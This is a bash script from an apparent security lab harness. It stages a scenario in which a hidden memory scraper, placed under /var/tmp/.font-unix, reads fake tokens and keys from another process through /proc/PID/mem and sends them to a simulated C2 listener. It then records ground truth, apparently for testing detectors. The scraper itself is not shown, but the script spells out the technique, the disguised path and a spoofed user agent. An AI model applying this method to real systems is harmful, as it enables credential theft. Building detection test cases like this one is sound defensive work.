#!/bin/bash
# Scenario secretsmem: secrets scraped from another process's memory. The workload (pid 1,
# Python, benign) loads its env file (Slack, GitHub and Stripe tokens, an AWS key pair, a
# service JWT, a PEM private key) into memory and works. Later a Python memory scraper reads
# every other process's writable memory through /proc/PID/mem, picks the secrets out by their
# format and sends each, base64url-encoded in a GET query, to 127.108.x.y over one keep-alive
# connection (the receiver answers 200), then scans again every 5 s.
# Usage: lab/scenarios/secretsmem.sh OUTDIR
source "$(dirname "$0")/../lib/common.sh"
lab_init secretsmem "$@"
lab_use_tools_image

C2="$(lab_addr 108):$(lab_pick 80 8080 8880)"
UA="Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)"
SCRAPER=/var/tmp/.font-unix/kmem.py
ENVFILE=/srv/notifier/config/notifier.env
lab_host_dir CONF config
"$LAB_PY" "$LAB_DIR/lib/fakedata.py" secrets "$WORK/sec" --namespace ops --sa notifier >/dev/null || lab_die "fakedata failed"
V=$WORK/sec/values.json
{
    echo "# notifier settings"
    echo "SLACK_CHANNEL=#ops-alerts"
    echo "SLACK_BOT_TOKEN=$(lab_json_pick "$V" slack_token)"
    echo "GITHUB_TOKEN=$(lab_json_pick "$V" github_token)"
    echo "STRIPE_KEY=$(lab_json_pick "$V" stripe_key)"
    echo "AWS_ACCESS_KEY_ID=$(lab_json_pick "$V" aws_access_key_id)"
    echo "AWS_SECRET_ACCESS_KEY=$(lab_json_pick "$V" aws_secret_access_key)"
    echo "SERVICE_JWT=$(lab_json_pick "$V" jwt)"
    echo "SIGNING_KEY=\"$(awk '{printf "%s\\n", $0}' "$WORK/sec/rsa_key.pem")\""
} >"$CONF/notifier.env"
lab_host_dir APP app
lab_template "$LAB_DIR/specimens/shared/appworker.py" "$APP/app.py"
lab_template "$SPEC/kmem.py" "$WORK/kmem.py" "C2=$C2" "UA=$UA"

lab_peer_on c2 "$C2" perl "$PEERS/sink.pl" --listen "$C2" --respond ok --content-type image/gif --body GIF89a \
    --summary "$WORK/peer-c2.json"

lab_create --env APP_ENV=prod --env APP_NAME=notifier --env APP_SETTINGS=$ENVFILE \
    --env APP_LOG=/var/log/notifier.log -v "$CONF:/srv/notifier/config:ro" -v "$APP:/srv/notifier/bin:ro" \
    --hostname notifier -- python3 /srv/notifier/bin/app.py
lab_start
lab_wait "the workload logs" 10 lab_cexec test -s /var/log/notifier.log
lab_cp "$WORK/kmem.py" "$SCRAPER" 0644
lab_exec_bg "python3 $SCRAPER"
lab_wait "7 secrets received" 20 \
    lab_json "$WORK/peer-c2.json" 'd["sessions"] and d["sessions"][0].get("request_count", 0) >= 7'
sleep 1

lab_finish "$SCRAPER" /srv/notifier/bin/app.py "$ENVFILE"

lab_kv_json "$WORK/params.json" "c2=$C2" "user_agent=$UA" "scraper_path=$SCRAPER" "env_file=$ENVFILE" \
    "encoding=base64url in GET query" \
    "secrets:=$(lab_json_pick "$V" stripe_key github_token slack_token aws_access_key_id aws_secret_access_key jwt rsa_key_sha256)"
lab_facts --conn "scraper=$C2" --proc "workload=^python3 /srv/notifier/bin/app.py"
lab_truth --description "memory scraper: python3 $SCRAPER reads other processes' memory via /proc/PID/mem and sends the secrets it finds (base64url in GET queries) to $C2" \
    --params "$WORK/params.json" --facts "$WORK/facts.json"
